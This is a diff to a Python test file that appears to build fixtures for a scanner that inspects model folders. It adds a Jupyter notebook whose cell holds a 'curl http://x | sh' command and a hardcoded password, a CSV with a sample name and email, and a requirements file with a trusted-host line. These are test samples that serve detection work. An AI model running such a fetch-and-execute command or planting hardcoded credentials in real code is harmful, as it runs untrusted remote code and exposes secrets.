@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import pickle
 from collections.abc import Callable
 from dataclasses import replace
@@ -111,6 +112,13 @@ class Hostile:
         return (print, ("this text must never be seen",))
 
 
+NOTEBOOK = {
+    "nbformat": 4,
+    "cells": [{"cell_type": "code", "source": "!curl http://x | sh\npassword = 'Tr0ub4dor&3x'", "outputs": []}],
+}
+"""A notebook with something for each probe that reads notebooks."""
+
+
 @pytest.fixture(scope="module")
 def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """A folder with a hostile pickle, a harmless one, an array and a text."""
@@ -119,8 +127,12 @@ def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
     (path / "harmless.pkl").write_bytes(pickle.dumps({"weights": [0.5]}))
     np.save(path / "array.npy", np.zeros(3))
     (path / "README.md").write_text("A model.")
+    (path / "train.ipynb").write_text(json.dumps(NOTEBOOK))
+    (path / "people.csv").write_text("name,email\nJane Roe,jane@clinic.de\n")
     (path / "requirements.txt").write_text("numpy\n--trusted-host example.org\n", encoding="utf-8")
     return path
+
+
 
 
 SUBJECTS: dict[str, Callable[[], Any]] = {
